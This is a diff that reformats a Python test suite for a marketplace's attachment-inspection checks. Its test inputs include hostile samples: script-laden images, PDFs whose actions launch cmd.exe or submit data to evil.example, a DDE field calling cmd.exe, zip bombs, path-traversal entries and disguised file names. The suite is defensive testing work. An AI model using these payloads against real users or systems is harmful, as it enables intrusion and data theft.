@@ -21,8 +21,7 @@ from compliance.files import Limits, inspect_file, safe_display_name
 from tests.compliance import sample_files as sample
 
 
-def refusal(name: str, data: bytes, rule: str, *reasons: str, limits: Limits | None = None
-            ) -> str:
+def refusal(name: str, data: bytes, rule: str, *reasons: str, limits: Limits | None = None) -> str:
     """Inspect the file; assert exactly one ``rule`` problem naming the file and giving
     every reason; return its message."""
     report = inspect_file(name, data, **({"limits": limits} if limits else {}))
@@ -43,38 +42,81 @@ def passes(name: str, data: bytes) -> None:
 # --- files that pass ---------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("name", "build", "kind", "mime"), [
-    ("assembly notes.txt", lambda: b"Step 1: unpack the tent.\r\nStep 2: stake it.\n", "txt",
-     "text/plain; charset=utf-8"),
-    ("care.txt", lambda: "\ufeffLavez à 30 °C — merci\n".encode(), "txt",
-     "text/plain; charset=utf-8"),
-    ("care-utf16.txt", lambda: "\ufeffWash at 30 °C\n".encode("utf-16-le"), "txt",
-     "text/plain; charset=utf-16"),
-    ("export.txt", lambda: b'<?xml version="1.0"?><order id="1001"><line qty="2"/></order>',
-     "txt", "text/plain; charset=utf-8"),
-    ("empty.txt", lambda: b"", "txt", "text/plain; charset=utf-8"),
-    ("invoice.pdf", sample.simple_pdf, "pdf", "application/pdf"),
-    ("manual.pdf", lambda: sample.sized_pdf(200_000), "pdf", "application/pdf"),
-    ("linked.pdf", lambda: sample.simple_pdf(
-        b"/OpenAction [3 0 R /Fit]", (b"<< /S /URI /URI (https://marketplace.example/) >>",)),
-     "pdf", "application/pdf"),
-    ("warranty.docx", sample.docx, "docx",
-     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
-    ("warranty-with-photo.docx", lambda: sample.docx_with(
-        {"word/media/image1.png": sample.image("PNG"),
-         "word/printerSettings/printerSettings1.bin": b"\x00\x01" * 200}), "docx",
-     "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
-    ("legal.doc", sample.word97, "doc", "application/msword"),
-    ("photo.jpg", lambda: sample.image("JPEG"), "jpeg", "image/jpeg"),
-    ("photo.JPEG", lambda: sample.image("JPEG", quality=60, progressive=True), "jpeg",
-     "image/jpeg"),
-    ("label.png", lambda: sample.image("PNG"), "png", "image/png"),
-    ("spinner.gif", lambda: animated_gif(4), "gif", "image/gif"),
-    ("logo.bmp", lambda: sample.image("BMP"), "bmp", "image/bmp"),
-    ("scan.tif", lambda: multipage_tiff(3), "tiff", "image/tiff"),
-    ("scan.tiff", lambda: sample.image("TIFF", compression="tiff_deflate"), "tiff",
-     "image/tiff"),
-])
+@pytest.mark.parametrize(
+    ("name", "build", "kind", "mime"),
+    [
+        (
+            "assembly notes.txt",
+            lambda: b"Step 1: unpack the tent.\r\nStep 2: stake it.\n",
+            "txt",
+            "text/plain; charset=utf-8",
+        ),
+        (
+            "care.txt",
+            lambda: "\ufeffLavez à 30 °C — merci\n".encode(),
+            "txt",
+            "text/plain; charset=utf-8",
+        ),
+        (
+            "care-utf16.txt",
+            lambda: "\ufeffWash at 30 °C\n".encode("utf-16-le"),
+            "txt",
+            "text/plain; charset=utf-16",
+        ),
+        (
+            "export.txt",
+            lambda: b'<?xml version="1.0"?><order id="1001"><line qty="2"/></order>',
+            "txt",
+            "text/plain; charset=utf-8",
+        ),
+        ("empty.txt", lambda: b"", "txt", "text/plain; charset=utf-8"),
+        ("invoice.pdf", sample.simple_pdf, "pdf", "application/pdf"),
+        ("manual.pdf", lambda: sample.sized_pdf(200_000), "pdf", "application/pdf"),
+        (
+            "linked.pdf",
+            lambda: sample.simple_pdf(
+                b"/OpenAction [3 0 R /Fit]", (b"<< /S /URI /URI (https://marketplace.example/) >>",)
+            ),
+            "pdf",
+            "application/pdf",
+        ),
+        (
+            "warranty.docx",
+            sample.docx,
+            "docx",
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        ),
+        (
+            "warranty-with-photo.docx",
+            lambda: sample.docx_with(
+                {
+                    "word/media/image1.png": sample.image("PNG"),
+                    "word/printerSettings/printerSettings1.bin": b"\x00\x01" * 200,
+                }
+            ),
+            "docx",
+            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
+        ),
+        ("legal.doc", sample.word97, "doc", "application/msword"),
+        ("photo.jpg", lambda: sample.image("JPEG"), "jpeg", "image/jpeg"),
+        (
+            "photo.JPEG",
+            lambda: sample.image("JPEG", quality=60, progressive=True),
+            "jpeg",
+            "image/jpeg",
+        ),
+        ("label.png", lambda: sample.image("PNG"), "png", "image/png"),
+        ("spinner.gif", lambda: animated_gif(4), "gif", "image/gif"),
+        ("logo.bmp", lambda: sample.image("BMP"), "bmp", "image/bmp"),
+        ("scan.tif", lambda: multipage_tiff(3), "tiff", "image/tiff"),
+        (
+            "scan.tiff",
+            lambda: sample.image("TIFF", compression="tiff_deflate"),
+            "tiff",
+            "image/tiff",
+        ),
+    ],
+)
 def test_genuine_files_of_every_allowed_type_pass(name, build, kind, mime):
     report = inspect_file(name, build())
     assert report.ok, report.problems
@@ -105,13 +147,24 @@ def multipage_tiff(pages: int) -> bytes:
 
 
 def test_a_png_named_pdf_is_refused_as_not_matching():
-    refusal("invoice.pdf", sample.image("PNG"), "attach.content",
-            "is not a PDF", "its content is a PNG image")
+    refusal(
+        "invoice.pdf",
+        sample.image("PNG"),
+        "attach.content",
+        "is not a PDF",
+        "its content is a PNG image",
+    )
 
 
 def test_a_zip_named_pdf_is_refused_as_a_type_not_allowed():
-    refusal("invoice.pdf", sample.zip_archive({"invoice.pdf": b"%PDF-1.7"}), "attach.type",
-            "is not a PDF", "ZIP archive", "not an allowed file type")
+    refusal(
+        "invoice.pdf",
+        sample.zip_archive({"invoice.pdf": b"%PDF-1.7"}),
+        "attach.type",
+        "is not a PDF",
+        "ZIP archive",
+        "not an allowed file type",
+    )
 
 
 def test_a_program_named_jpg_is_refused():
@@ -120,26 +173,38 @@ def test_a_program_named_jpg_is_refused():
 
 
 def test_a_jpeg_named_png_is_refused():
-    refusal("label.png", sample.image("JPEG"), "attach.content", "is not a PNG image",
-            "JPEG image")
+    refusal("label.png", sample.image("JPEG"), "attach.content", "is not a PNG image", "JPEG image")
 
 
 def test_a_word_97_file_named_docx_is_refused():
-    refusal("contract.docx", sample.word97(), "attach.content",
-            "is not a Word document (.docx)", "Word 97-2003")
+    refusal(
+        "contract.docx",
+        sample.word97(),
+        "attach.content",
+        "is not a Word document (.docx)",
+        "Word 97-2003",
+    )
 
 
 def test_an_html_page_named_pdf_is_refused():
-    refusal("invoice.pdf", b"<!DOCTYPE html><html><body>Pay here</body></html>",
-            "attach.type", "is not a PDF", "web page")
+    refusal(
+        "invoice.pdf",
+        b"<!DOCTYPE html><html><body>Pay here</body></html>",
+        "attach.type",
+        "is not a PDF",
+        "web page",
+    )
 
 
-@pytest.mark.parametrize(("name", "reason"), [
-    ("setup.exe", ".exe files cannot be attached"),
-    ("archive.zip", ".zip files cannot be attached"),
-    ("page.html", ".html files cannot be attached"),
-    ("README", "has no file extension"),
-])
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        ("setup.exe", ".exe files cannot be attached"),
+        ("archive.zip", ".zip files cannot be attached"),
+        ("page.html", ".html files cannot be attached"),
+        ("README", "has no file extension"),
+    ],
+)
 def test_extensions_not_on_the_list_are_refused(name, reason):
     refusal(name, b"anything", "attach.type", reason, ".pdf, .doc, .docx")
 
@@ -152,19 +217,28 @@ def test_empty_files_are_refused_except_text():
 
 
 def test_a_gif_with_a_script_appended_is_refused():
-    refusal("smile.gif", sample.image("GIF") + b"<script>alert(document.cookie)</script>",
-            "attach.content", "also carries a script")
+    refusal(
+        "smile.gif",
+        sample.image("GIF") + b"<script>alert(document.cookie)</script>",
+        "attach.content",
+        "also carries a script",
+    )
 
 
 def test_a_gif_with_a_script_in_a_comment_is_refused():
-    refusal("smile.gif", sample.image("GIF", comment=b"<script src=//evil.example></script>"),
-            "attach.content", "also carries a script")
+    refusal(
+        "smile.gif",
+        sample.image("GIF", comment=b"<script src=//evil.example></script>"),
+        "attach.content",
+        "also carries a script",
+    )
 
 
 def test_a_jpeg_with_a_zip_appended_is_refused():
     hidden = sample.zip_archive({"payload.js": b"WScript.Shell"})
-    refusal("photo.jpg", sample.image("JPEG") + hidden, "attach.content",
-            "also carries a ZIP archive")
+    refusal(
+        "photo.jpg", sample.image("JPEG") + hidden, "attach.content", "also carries a ZIP archive"
+    )
 
 
 def test_a_png_with_a_pdf_header_inside_is_refused():
@@ -172,31 +246,51 @@ def test_a_png_with_a_pdf_header_inside_is_refused():
 
     info = PngImagePlugin.PngInfo()
     info.add_text("Comment", "%PDF-1.4 1 0 obj")
-    refusal("label.png", sample.image("PNG", pnginfo=info), "attach.content",
-            "also carries a PDF document")
+    refusal(
+        "label.png",
+        sample.image("PNG", pnginfo=info),
+        "attach.content",
+        "also carries a PDF document",
+    )
 
 
 def test_a_pdf_with_a_zip_appended_is_refused():
     hidden = sample.zip_archive({"run.bat": b"calc.exe"})
-    refusal("invoice.pdf", sample.simple_pdf(tail=hidden), "attach.content",
-            "PDF that also carries a ZIP archive")
+    refusal(
+        "invoice.pdf",
+        sample.simple_pdf(tail=hidden),
+        "attach.content",
+        "PDF that also carries a ZIP archive",
+    )
 
 
 def test_a_pdf_with_html_after_its_end_is_refused():
-    refusal("invoice.pdf", sample.simple_pdf(tail=b"<html><script>x()</script></html>"),
-            "attach.content", "also carries", "script")
+    refusal(
+        "invoice.pdf",
+        sample.simple_pdf(tail=b"<html><script>x()</script></html>"),
+        "attach.content",
+        "also carries",
+        "script",
+    )
 
 
 def test_a_bmp_with_an_executable_appended_is_refused():
-    refusal("logo.bmp", sample.image("BMP") + b"MZ\x90\x00" + b"\x00" * 60, "attach.content",
-            "Windows program")
+    refusal(
+        "logo.bmp",
+        sample.image("BMP") + b"MZ\x90\x00" + b"\x00" * 60,
+        "attach.content",
+        "Windows program",
+    )
 
 
 def test_a_pdf_with_something_before_its_header_is_refused():
-    refusal("invoice.pdf", b"<html><body>hi</body></html>\n" + sample.simple_pdf(),
-            "attach.type", "is not a PDF")
-    refusal("invoice.pdf", b"%PDF-" + b"\x00" * 3 + b"junk", "attach.content",
-            "end-of-file marker")
+    refusal(
+        "invoice.pdf",
+        b"<html><body>hi</body></html>\n" + sample.simple_pdf(),
+        "attach.type",
+        "is not a PDF",
+    )
+    refusal("invoice.pdf", b"%PDF-" + b"\x00" * 3 + b"junk", "attach.content", "end-of-file marker")
 
 
 # --- Word (.docx) ------------------------------------------------------------------------
@@ -204,63 +298,110 @@ def test_a_pdf_with_something_before_its_header_is_refused():
 
 def test_a_docx_with_a_vba_project_is_refused_as_macros():
     vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600
-    refusal("warranty.docx", sample.docx_with({"word/vbaProject.bin": vba}), "attach.content",
-            "contains macros", "word/vbaProject.bin")
+    refusal(
+        "warranty.docx",
+        sample.docx_with({"word/vbaProject.bin": vba}),
+        "attach.content",
+        "contains macros",
+        "word/vbaProject.bin",
+    )
 
 
 def test_a_docm_renamed_docx_is_refused():
-    docm = sample.docx(**{"[Content_Types].xml": sample.content_types(
-        sample.WORD_MACRO_MAIN, f'<Override PartName="/word/vbaData.xml" '
-                                f'ContentType="{sample.VBA_PROJECT}"/>')})
+    docm = sample.docx(
+        **{
+            "[Content_Types].xml": sample.content_types(
+                sample.WORD_MACRO_MAIN,
+                f'<Override PartName="/word/vbaData.xml" ContentType="{sample.VBA_PROJECT}"/>',
+            )
+        }
+    )
     refusal("warranty.docx", docm, "attach.content", "macro-enabled document (.docm)")
 
 
-@pytest.mark.parametrize(("parts", "reason"), [
-    ({"word/activeX/activeX1.xml": b"<ax/>"}, "ActiveX controls"),
-    ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64},
-     "embedded objects (word/embeddings/oleObject1.bin)"),
-    ({"word/media/photos.zip": sample.zip_archive({"a.jpg": b"x"})},
-     "word/media/photos.zip is a ZIP archive"),
-    ({"word/media/setup.png": b"MZ\x90\x00" + b"\x00" * 100}, "is a Windows program"),
-    ({"word/_rels/settings.xml.rels": sample.relationships(
-        ("attachedTemplate", "http://evil.example/macro.dotm", "External"))},
-     "attachedTemplate: http://evil.example/macro.dotm"),
-    ({"word/document.xml": sample.document_xml(
-        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO '
-        'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>')},
-     "DDE field"),
-    ({"word/document.xml": b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaa">]>'
-                           b"<w:document/>"}, "DTD"),
-])
+@pytest.mark.parametrize(
+    ("parts", "reason"),
+    [
+        ({"word/activeX/activeX1.xml": b"<ax/>"}, "ActiveX controls"),
+        (
+            {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64},
+            "embedded objects (word/embeddings/oleObject1.bin)",
+        ),
+        (
+            {"word/media/photos.zip": sample.zip_archive({"a.jpg": b"x"})},
+            "word/media/photos.zip is a ZIP archive",
+        ),
+        ({"word/media/setup.png": b"MZ\x90\x00" + b"\x00" * 100}, "is a Windows program"),
+        (
+            {
+                "word/_rels/settings.xml.rels": sample.relationships(
+                    ("attachedTemplate", "http://evil.example/macro.dotm", "External")
+                )
+            },
+            "attachedTemplate: http://evil.example/macro.dotm",
+        ),
+        (
+            {
+                "word/document.xml": sample.document_xml(
+                    '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO '
+                    'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p>'
+                )
+            },
+            "DDE field",
+        ),
+        (
+            {
+                "word/document.xml": b'<?xml version="1.0"?><!DOCTYPE lol [<!ENTITY a "aaaa">]>'
+                b"<w:document/>"
+            },
+            "DTD",
+        ),
+    ],
+)
 def test_active_content_in_a_docx_is_refused(parts, reason):
     refusal("warranty.docx", sample.docx_with(parts), "attach.content", reason)
 
 
-@pytest.mark.parametrize("entry", ["../../evil.txt", "/etc/cron.d/evil", "word\\..\\evil.xml",
-                                   "C:/Windows/evil.dll"])
+@pytest.mark.parametrize(
+    "entry", ["../../evil.txt", "/etc/cron.d/evil", "word\\..\\evil.xml", "C:/Windows/evil.dll"]
+)
 def test_docx_entries_that_point_outside_are_refused(entry):
-    refusal("warranty.docx", sample.docx_with({entry: b"x"}), "attach.content",
-            "point outside the document", entry)
+    refusal(
+        "warranty.docx",
+        sample.docx_with({entry: b"x"}),
+        "attach.content",
+        "point outside the document",
+        entry,
+    )
 
 
 def test_a_zip_that_is_not_a_word_package_is_refused_as_a_zip():
-    refusal("warranty.docx", sample.zip_archive({"[Content_Types].xml": b"<Types/>",
-                                                 "notes.txt": b"hi"}),
-            "attach.type", "is not a Word document (.docx)", "ZIP archive")
+    refusal(
+        "warranty.docx",
+        sample.zip_archive({"[Content_Types].xml": b"<Types/>", "notes.txt": b"hi"}),
+        "attach.type",
+        "is not a Word document (.docx)",
+        "ZIP archive",
+    )
 
 
 def test_a_word_template_is_not_a_document():
-    template = sample.docx(**{"[Content_Types].xml": sample.content_types(
-        sample.WORD_MAIN.replace("document.main", "template.main"))})
-    refusal("warranty.docx", template, "attach.content", "is not a Word document",
-            "template.main")
+    template = sample.docx(
+        **{
+            "[Content_Types].xml": sample.content_types(
+                sample.WORD_MAIN.replace("document.main", "template.main")
+            )
+        }
+    )
+    refusal("warranty.docx", template, "attach.content", "is not a Word document", "template.main")
 
 
 def test_a_zip_bomb_is_refused_by_its_compression_ratio():
     bomb = sample.docx_with({"word/media/filler.xml": b"\x00" * 30_000_000})
     started = time.perf_counter()
-    refusal("warranty.docx", bomb, "attach.content", "ZIP bomb", "100 times",
-            "word/media/filler.xml")
+    refusal(
+        "warranty.docx", bomb, "attach.content", "ZIP bomb", "100 times", "word/media/filler.xml"
+    )
     assert time.perf_counter() - started < 1  # stopped early, not inflated to the end
 
 
@@ -268,8 +409,14 @@ def test_a_zip_bomb_is_refused_by_its_unpacked_total():
     # Ordinary ratios, too much in total (limits made small to keep the test quick).
     parts = {f"word/media/part{i}.xml": bytes(range(256)) * 4000 for i in range(8)}
     limits = Limits(max_unpacked_bytes=4 * 1024 * 1024)
-    refusal("warranty.docx", sample.docx_with(parts), "attach.content",
-            "unpacks to more than 4 MB", "ZIP bomb", limits=limits)
+    refusal(
+        "warranty.docx",
+        sample.docx_with(parts),
+        "attach.content",
+        "unpacks to more than 4 MB",
+        "ZIP bomb",
+        limits=limits,
+    )
 
 
 def test_a_zip_whose_headers_lie_about_sizes_is_judged_by_what_it_inflates_to():
@@ -280,14 +427,24 @@ def test_a_zip_whose_headers_lie_about_sizes_is_judged_by_what_it_inflates_to():
 
 def test_a_zip_whose_headers_lie_about_a_small_entry_is_refused_as_invalid():
     liar = sample.lie_about_sizes(sample.docx(), "word/document.xml", 10)
-    refusal("warranty.docx", liar, "attach.content", "not a valid Word document",
-            "claims word/document.xml holds 10 bytes")
+    refusal(
+        "warranty.docx",
+        liar,
+        "attach.content",
+        "not a valid Word document",
+        "claims word/document.xml holds 10 bytes",
+    )
 
 
 def test_a_zip_with_too_many_entries_is_refused():
     parts = {f"word/media/image{i}.png": b"x" for i in range(30)}
-    refusal("warranty.docx", sample.docx_with(parts), "attach.content", "more than 20",
-            limits=Limits(max_zip_entries=20))
+    refusal(
+        "warranty.docx",
+        sample.docx_with(parts),
+        "attach.content",
+        "more than 20",
+        limits=Limits(max_zip_entries=20),
+    )
 
 
 def test_a_zip_with_encrypted_entries_is_refused():
@@ -299,8 +456,12 @@ def test_a_zip_with_encrypted_entries_is_refused():
 
 
 def test_a_zip_with_data_after_it_is_refused():
-    refusal("warranty.docx", sample.docx() + b"<html><script>x()</script>", "attach.content",
-            "data before or after its ZIP package")
+    refusal(
+        "warranty.docx",
+        sample.docx() + b"<html><script>x()</script>",
+        "attach.content",
+        "data before or after its ZIP package",
+    )
 
 
 def test_a_zip_whose_entries_share_data_is_refused():
@@ -334,49 +495,70 @@ def test_a_doc_with_embedded_objects_is_refused():
 
 
 def test_an_encrypted_doc_is_refused():
-    document = sample.compound_file({"WordDocument": sample.word_fib(encrypted=True),
-                                     "1Table": b"\x00"})
+    document = sample.compound_file(
+        {"WordDocument": sample.word_fib(encrypted=True), "1Table": b"\x00"}
+    )
     refusal("legal.doc", document, "attach.content", "password-protected")
 
 
 def test_a_compound_file_that_is_not_word_is_refused():
     spreadsheet = sample.compound_file({"Workbook": b"\x09\x08" + b"\x00" * 100})
-    refusal("legal.doc", spreadsheet, "attach.type", "is not a Word 97-2003 document",
-            "Excel")
+    refusal("legal.doc", spreadsheet, "attach.type", "is not a Word 97-2003 document", "Excel")
 
 
 def test_a_damaged_doc_is_refused():
-    refusal("legal.doc", sample.word97()[:1600], "attach.content",
-            "not a readable Word document")
+    refusal("legal.doc", sample.word97()[:1600], "attach.content", "not a readable Word document")
 
 
 # --- PDF -------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("extra", "objects", "reason"), [
-    (b"/OpenAction 6 0 R", (b"<< /S /JavaScript /JS (app.alert('hi')) >>",), "JavaScript"),
-    (b"/OpenAction 6 0 R", (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",), "JavaScript"),
-    (b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
-     (b"<< /S /JavaScript /JS (this.print()) >>",), "JavaScript"),
-    (b"/OpenAction 6 0 R", (b"<< /S /Launch /F (cmd.exe) /P (/c calc) >>",),
-     "launches programs"),
-    (b"/OpenAction 6 0 R", (b"<< /S /L#61unch /F (cmd.exe) >>",), "launches programs"),
-    (b"/Names << /EmbeddedFiles << /Names [(payload.exe) 6 0 R] >> >>",
-     (b"<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>",
-      sample.stream(b"MZ payload", b"/Type /EmbeddedFile")), "embedded files"),
-    (b"/AcroForm << /Fields [] /XFA 6 0 R >>", (sample.stream(b"<xdp/>"),), "XFA form"),
-    (b"/OpenAction 6 0 R", (b"<< /S /SubmitForm /F (https://evil.example/) >>",),
-     "sends data away"),
-    (b"/OpenAction 6 0 R", (b"<< /S /ImportData /F (data.fdf) >>",), "imports data"),
-    (b"/OpenAction 6 0 R", (b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >>",),
-     "links into other files"),
-    (b"/OpenAction 6 0 R", (b"<< /S /URI /URI (javascript:alert(1)) >>",), "runs a script"),
-    (b"/OpenAction 6 0 R", (b"<< /S /URI /URI <6A617661736372697074 3A616C6572742831 29> >>",),
-     "runs a script"),
-])
+@pytest.mark.parametrize(
+    ("extra", "objects", "reason"),
+    [
+        (b"/OpenAction 6 0 R", (b"<< /S /JavaScript /JS (app.alert('hi')) >>",), "JavaScript"),
+        (b"/OpenAction 6 0 R", (b"<< /S /J#61vaScript /J#53 (app.alert(1)) >>",), "JavaScript"),
+        (
+            b"/Names << /JavaScript << /Names [(a) 6 0 R] >> >>",
+            (b"<< /S /JavaScript /JS (this.print()) >>",),
+            "JavaScript",
+        ),
+        (
+            b"/OpenAction 6 0 R",
+            (b"<< /S /Launch /F (cmd.exe) /P (/c calc) >>",),
+            "launches programs",
+        ),
+        (b"/OpenAction 6 0 R", (b"<< /S /L#61unch /F (cmd.exe) >>",), "launches programs"),
+        (
+            b"/Names << /EmbeddedFiles << /Names [(payload.exe) 6 0 R] >> >>",
+            (
+                b"<< /Type /Filespec /F (payload.exe) /EF << /F 7 0 R >> >>",
+                sample.stream(b"MZ payload", b"/Type /EmbeddedFile"),
+            ),
+            "embedded files",
+        ),
+        (b"/AcroForm << /Fields [] /XFA 6 0 R >>", (sample.stream(b"<xdp/>"),), "XFA form"),
+        (
+            b"/OpenAction 6 0 R",
+            (b"<< /S /SubmitForm /F (https://evil.example/) >>",),
+            "sends data away",
+        ),
+        (b"/OpenAction 6 0 R", (b"<< /S /ImportData /F (data.fdf) >>",), "imports data"),
+        (
+            b"/OpenAction 6 0 R",
+            (b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\x.pdf) >>",),
+            "links into other files",
+        ),
+        (b"/OpenAction 6 0 R", (b"<< /S /URI /URI (javascript:alert(1)) >>",), "runs a script"),
+        (
+            b"/OpenAction 6 0 R",
+            (b"<< /S /URI /URI <6A617661736372697074 3A616C6572742831 29> >>",),
+            "runs a script",
+        ),
+    ],
+)
 def test_active_content_in_a_pdf_is_refused(extra, objects, reason):
-    refusal("invoice.pdf", sample.simple_pdf(extra, objects), "attach.content", reason,
-            "plain PDF")
+    refusal("invoice.pdf", sample.simple_pdf(extra, objects), "attach.content", reason, "plain PDF")
 
 
 def test_javascript_hidden_in_a_compressed_object_stream_is_found():
@@ -420,13 +602,22 @@ def with_png_size(png: bytes, width: int, height: int) -> bytes:
 
 
 def test_an_image_over_the_pixel_cap_is_refused_before_decoding():
-    refusal("poster.png", with_png_size(sample.image("PNG"), 8000, 6000), "attach.content",
-            "8000 x 6000 pixels", "at most 40 megapixels")
+    refusal(
+        "poster.png",
+        with_png_size(sample.image("PNG"), 8000, 6000),
+        "attach.content",
+        "8000 x 6000 pixels",
+        "at most 40 megapixels",
+    )
 
 
 def test_a_decompression_bomb_pillow_refuses_is_a_refusal_too():
-    refusal("poster.png", with_png_size(sample.image("PNG"), 100_000, 100_000),
-            "attach.content", "more pixels than an image may have")
+    refusal(
+        "poster.png",
+        with_png_size(sample.image("PNG"), 100_000, 100_000),
+        "attach.content",
+        "more pixels than an image may have",
+    )
 
 
 def test_a_truncated_image_is_refused():
@@ -436,13 +627,17 @@ def test_a_truncated_image_is_refused():
     refusal("label.png", label[: len(label) // 2], "attach.content", "damaged or incomplete")
 
 
-@pytest.mark.parametrize(("name", "build"), [
-    ("spinner.gif", lambda: animated_gif(6)),
-    ("scan.tiff", lambda: multipage_tiff(6)),
-])
+@pytest.mark.parametrize(
+    ("name", "build"),
+    [
+        ("spinner.gif", lambda: animated_gif(6)),
+        ("scan.tiff", lambda: multipage_tiff(6)),
+    ],
+)
 def test_too_many_frames_or_pages_are_refused(name, build):
-    refusal(name, build(), "attach.content", "more than 5 frames or pages",
-            limits=Limits(max_frames=5))
+    refusal(
+        name, build(), "attach.content", "more than 5 frames or pages", limits=Limits(max_frames=5)
+    )
 
 
 def test_a_jpeg_with_thousands_of_scans_is_refused():
@@ -456,15 +651,18 @@ def test_a_jpeg_with_thousands_of_scans_is_refused():
 # --- text ---------------------------------------------------------------------------------
 
 
-@pytest.mark.parametrize(("data", "reason"), [
-    (b"Order 1001\x00\x00\x00\x01binary", "contains NUL bytes"),
-    (b"Order 1001\x1b[31m red", "binary control characters (U+001B"),
-    ("Größe: 42".encode("latin-1"), "not UTF-8 or UTF-16 text"),
-    (b"<!DOCTYPE html><html><body onload=x()>", "web page or markup"),
-    (b"  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "web page or markup"),
-    (b"Dear Jordan,\nsee below\n<script>fetch('//evil.example')</script>", "web page"),
-    (b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>', "web page or markup"),
-])
+@pytest.mark.parametrize(
+    ("data", "reason"),
+    [
+        (b"Order 1001\x00\x00\x00\x01binary", "contains NUL bytes"),
+        (b"Order 1001\x1b[31m red", "binary control characters (U+001B"),
+        ("Größe: 42".encode("latin-1"), "not UTF-8 or UTF-16 text"),
+        (b"<!DOCTYPE html><html><body onload=x()>", "web page or markup"),
+        (b"  <svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "web page or markup"),
+        (b"Dear Jordan,\nsee below\n<script>fetch('//evil.example')</script>", "web page"),
+        (b'<?xml version="1.0"?><?xml-stylesheet href="x.xsl"?><a/>', "web page or markup"),
+    ],
+)
 def test_text_that_is_not_plain_text_is_refused(data, reason):
     refusal("notes.txt", data, "attach.content", reason)
 
@@ -482,17 +680,25 @@ def test_a_right_to_left_override_in_the_name_is_refused():
 
 
 def test_a_right_to_left_override_is_refused_even_with_an_allowed_extension():
-    refusal("photo\u202egnp.jpg", sample.image("JPEG"), "attach.type",
-            "U+202E RIGHT-TO-LEFT OVERRIDE", "real extension is hidden")
+    refusal(
+        "photo\u202egnp.jpg",
+        sample.image("JPEG"),
+        "attach.type",
+        "U+202E RIGHT-TO-LEFT OVERRIDE",
+        "real extension is hidden",
+    )
 
 
-@pytest.mark.parametrize(("name", "reasons"), [
-    ("invoice.pdf.exe", ("is a .exe file, not a .pdf file",)),
-    ("photo.exe.jpg", ("second extension (.exe)",)),
-    ("scan.php.png", ("second extension (.php)",)),
-    ("scan.PHP.backup.png", ("second extension (.php)",)),
-    ("invoice.pdf.jpg", ("two file-type extensions (.pdf and .jpg)",)),
-])
+@pytest.mark.parametrize(
+    ("name", "reasons"),
+    [
+        ("invoice.pdf.exe", ("is a .exe file, not a .pdf file",)),
+        ("photo.exe.jpg", ("second extension (.exe)",)),
+        ("scan.php.png", ("second extension (.php)",)),
+        ("scan.PHP.backup.png", ("second extension (.php)",)),
+        ("invoice.pdf.jpg", ("two file-type extensions (.pdf and .jpg)",)),
+    ],
+)
 def test_double_extensions_are_refused(name, reasons):
     refusal(name, sample.image("JPEG"), "attach.type", *reasons)
 
@@ -502,18 +708,21 @@ def test_ordinary_dots_in_names_are_fine():
     passes("photo.jpeg.jpg", sample.image("JPEG"))  # the same type twice says nothing false
 
 
-@pytest.mark.parametrize(("name", "reason"), [
-    ("../../etc/passwd.txt", "folder path"),
-    ("/etc/notes.txt", "folder path"),
-    ("C:\\Users\\sam\\notes.txt", "folder path"),
-    ("..\\notes.txt", "folder path"),
-    ("C:notes.txt", "drive letter"),
-    ("CON.txt", "reserves for a device (CON)"),
-    ("notes.txt.", "ends with a dot or a space"),
-    ("notes\u200b.txt", "U+200B ZERO WIDTH SPACE"),
-    ("notes\x07.txt", "control characters"),
-    ("n" * 300 + ".txt", "304 characters"),
-])
+@pytest.mark.parametrize(
+    ("name", "reason"),
+    [
+        ("../../etc/passwd.txt", "folder path"),
+        ("/etc/notes.txt", "folder path"),
+        ("C:\\Users\\sam\\notes.txt", "folder path"),
+        ("..\\notes.txt", "folder path"),
+        ("C:notes.txt", "drive letter"),
+        ("CON.txt", "reserves for a device (CON)"),
+        ("notes.txt.", "ends with a dot or a space"),
+        ("notes\u200b.txt", "U+200B ZERO WIDTH SPACE"),
+        ("notes\x07.txt", "control characters"),
+        ("n" * 300 + ".txt", "304 characters"),
+    ],
+)
 def test_names_with_tricks_are_refused(name, reason):
     refusal(name, b"Assembly notes\n", "attach.type", reason)
 
@@ -535,8 +744,12 @@ def test_safe_display_name_keeps_what_people_wrote_and_drops_header_trouble():
 
 
 def draft(*files: FileFacts) -> MessageDraft:
-    return MessageDraft(sender_side="buyer", message_type="buyer_inquiry",
-                        body="Here are the files for order 1001.", attachments=files)
+    return MessageDraft(
+        sender_side="buyer",
+        message_type="buyer_inquiry",
+        body="Here are the files for order 1001.",
+        attachments=files,
+    )
 
 
 def facts(name: str, data: bytes, reads: list[str] | None = None) -> FileFacts:
@@ -558,20 +771,29 @@ def attach_violations(verdict) -> dict[str, list]:
 
 def test_clean_attachments_are_allowed_and_each_file_is_read_once():
     reads: list[str] = []
-    verdict = check_message(draft(facts("invoice.pdf", sample.simple_pdf(), reads),
-                                  facts("photo.jpg", sample.image("JPEG"), reads)))
+    verdict = check_message(
+        draft(
+            facts("invoice.pdf", sample.simple_pdf(), reads),
+            facts("photo.jpg", sample.image("JPEG"), reads),
+        )
+    )
     assert attach_violations(verdict) == {}
